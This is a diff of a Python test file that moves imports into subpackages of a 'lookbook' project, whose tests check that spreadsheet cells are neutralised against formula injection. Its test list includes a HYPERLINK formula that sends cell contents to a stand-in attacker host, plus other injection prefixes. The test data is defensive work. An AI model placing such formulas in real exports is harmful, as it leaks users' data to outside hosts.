@@ -10,11 +10,11 @@ import pytest
 from openpyxl import Workbook
 
 from customer_support import add_brand, add_customer, write_csv
-from lookbook.catalog import import_catalog
-from lookbook.customer_csv import export_customers, import_customers
-from lookbook.purchase_import import import_purchases
-from lookbook.store import Store
-from lookbook.tabular import neutralise_cell, neutralised_row, restore_cell
+from lookbook.catalog.products import import_catalog
+from lookbook.customers.csv_files import export_customers, import_customers
+from lookbook.customers.purchases import import_purchases
+from lookbook.store.database import Store
+from lookbook.store.tabular import neutralise_cell, neutralised_row, restore_cell
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(1)", "\tTabbed", "\rReturn",
             "=1+1", "'=already quoted", "''-two quotes"]
